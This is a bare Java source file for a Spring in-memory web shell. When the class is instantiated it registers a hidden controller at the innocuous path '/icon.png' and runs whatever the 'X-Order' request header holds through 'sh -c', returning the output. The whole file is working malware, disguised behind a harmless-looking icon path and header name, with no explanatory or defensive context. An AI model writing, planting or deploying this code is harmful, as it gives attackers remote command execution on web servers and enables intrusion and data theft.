import javax.servlet.http.HttpServletRequest;
import org.springframework.web.bind.annotation.ResponseBody;
import org.springframework.web.context.WebApplicationContext;
import org.springframework.web.context.request.RequestContextHolder;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/** Registers itself as a controller. */
public class Shell {
  public Shell() throws Exception {
    WebApplicationContext context =
        (WebApplicationContext)
            RequestContextHolder.currentRequestAttributes()
                .getAttribute("org.springframework.web.servlet.DispatcherServlet.CONTEXT", 0);
    RequestMappingHandlerMapping mapping = context.getBean(RequestMappingHandlerMapping.class);
    RequestMappingInfo.BuilderConfiguration options = new RequestMappingInfo.BuilderConfiguration();
    options.setPatternParser(mapping.getPatternParser());
    mapping.registerMapping(
        RequestMappingInfo.paths("/icon.png").options(options).build(),
        this,
        getClass().getMethod("order", HttpServletRequest.class));
  }

  @ResponseBody
  public String order(HttpServletRequest request) throws Exception {
    return run(request.getHeader("X-Order"));
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
